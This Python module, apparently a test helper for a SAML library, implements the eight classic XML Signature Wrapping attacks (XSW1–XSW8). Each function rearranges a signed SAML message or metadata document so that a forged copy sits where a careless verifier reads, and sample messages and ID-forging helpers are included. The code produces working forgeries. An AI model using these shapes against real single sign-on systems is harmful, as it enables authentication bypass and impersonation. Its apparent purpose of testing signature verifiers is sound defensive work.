"""Signature wrapping: the eight classic shapes (Somorovsky et al., «On Breaking SAML», USENIX Security 2012).

A shape takes a signed document and `forge`, which turns a copy of the signed element into what the attacker wants, and
returns the attack. The signature and what it covers are left whole somewhere in it; the forged element stands where a
careless reader looks. Written for enveloped signatures of any element, so they fit requests, responses and metadata.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

Element = etree._Element
Forge = Callable[[Element], None]
Shape = Callable[[bytes, Forge], bytes]

DS = "http://www.w3.org/2000/09/xmldsig#"
SIGNATURE = f"{{{DS}}}Signature"
_PROTOCOL = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
_BODY = 'ID="_good" Version="2.0" IssueInstant="2026-09-01T00:00:00Z"><saml:Issuer>https://sp.example</saml:Issuer>'
_METADATA = "urn:oasis:names:tc:SAML:2.0:metadata"

MESSAGES = {
    "AuthnRequest": f'<samlp:AuthnRequest {_PROTOCOL} AssertionConsumerServiceIndex="0" {_BODY}</samlp:AuthnRequest>',
    "LogoutRequest": (
        f"<samlp:LogoutRequest {_PROTOCOL} {_BODY}<saml:NameID>pupil</saml:NameID>"
        "<samlp:SessionIndex>1</samlp:SessionIndex></samlp:LogoutRequest>"
    ),
    "LogoutResponse": (
        f'<samlp:LogoutResponse {_PROTOCOL} InResponseTo="_1" {_BODY}<samlp:Status>'
        '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>'
    ),
    "ArtifactResolve": (
        f"<samlp:ArtifactResolve {_PROTOCOL} {_BODY}<samlp:Artifact>AAQAAA==</samlp:Artifact></samlp:ArtifactResolve>"
    ),
    "EntityDescriptor": (
        f'<EntityDescriptor xmlns="{_METADATA}" ID="_good" entityID="https://sp.example"><SPSSODescriptor '
        'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><AssertionConsumerService index="0" '
        'Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://sp.example/acs"/>'
        "</SPSSODescriptor></EntityDescriptor>"
    ),
}
"""One unsigned document of each kind that partners may sign."""


def inside_signature(document: bytes, forge: Forge) -> bytes:
    """XSW 1: the forged element holds the signature, and the signature what it signs."""
    good, signature, evil = _taken_apart(document, forge)
    evil.insert(0, signature)
    signature.append(good)
    return _text(evil)


def detached(document: bytes, forge: Forge) -> bytes:
    """XSW 2: what is signed comes before its signature, both in the forged element."""
    good, signature, evil = _taken_apart(document, forge)
    evil.insert(0, good)
    evil.insert(1, signature)
    return _text(evil)


def beside(document: bytes, forge: Forge) -> bytes:
    """XSW 3: the forged element stands before the signed one, which is untouched, in one container."""
    good = etree.fromstring(document)
    container = etree.Element("Container")
    container.append(_forged(good, forge))
    container.append(good)
    return _text(container)


def around(document: bytes, forge: Forge) -> bytes:
    """XSW 4: the forged element contains the signed one, which is untouched."""
    good = etree.fromstring(document)
    evil = _forged(good, forge)
    evil.append(good)
    return _text(evil)


def moved_to_the_end(document: bytes, forge: Forge) -> bytes:
    """XSW 5: the forged element holds the signature where it belongs, and what is signed as its last child."""
    good, signature, evil = _taken_apart(document, forge)
    evil.insert(1, signature)
    evil.append(good)
    return _text(evil)


def inside_key_info(document: bytes, forge: Forge) -> bytes:
    """XSW 6: like 1, with what is signed hidden in the part of the signature that nothing covers."""
    good, signature, evil = _taken_apart(document, forge)
    evil.insert(1, signature)
    key_info = signature.find(f"{{{DS}}}KeyInfo")
    (signature if key_info is None else key_info).append(good)
    return _text(evil)


def inside_extensions(document: bytes, forge: Forge) -> bytes:
    """XSW 7: the signed element, untouched, in Extensions of the forged one, where a schema allows anything."""
    good = etree.fromstring(document)
    evil = _forged(good, forge)
    extensions = etree.Element(f"{{{etree.QName(good).namespace}}}Extensions")
    extensions.append(good)
    evil.insert(0, extensions)
    return _text(evil)


def inside_object(document: bytes, forge: Forge) -> bytes:
    """XSW 8: what is signed in a ds:Object of its signature (XML-DSig §4.5), in the forged element."""
    good, signature, evil = _taken_apart(document, forge)
    evil.insert(1, signature)
    etree.SubElement(signature, f"{{{DS}}}Object").append(good)
    return _text(evil)


SHAPES: dict[str, Shape] = {
    "XSW1": inside_signature,
    "XSW2": detached,
    "XSW3": beside,
    "XSW4": around,
    "XSW5": moved_to_the_end,
    "XSW6": inside_key_info,
    "XSW7": inside_extensions,
    "XSW8": inside_object,
}


def another_id(element: Element) -> None:
    """Half of a forgery: the usual one, whose ID is free."""
    element.set("ID", "_evil")


def same_id(element: Element) -> None:
    """Half of a forgery: hoping that the first or the last element of an ID is found."""


def no_id(element: Element) -> None:
    """Half of a forgery: hoping that a reference without target means the whole document."""
    del element.attrib["ID"]


def _taken_apart(document: bytes, forge: Forge) -> tuple[Element, Element, Element]:
    """What is signed without its signature, the signature, and the forged copy."""
    good = etree.fromstring(document)
    evil = _forged(good, forge)
    signature = good.find(SIGNATURE)
    assert signature is not None, "the document to attack is signed"
    good.remove(signature)
    return good, signature, evil


def _forged(good: Element, forge: Forge) -> Element:
    evil = copy.deepcopy(good)
    for signature in evil.findall(SIGNATURE):
        evil.remove(signature)
    forge(evil)
    return evil


def _text(root: Element) -> bytes:
    return etree.tostring(root, encoding="utf-8")
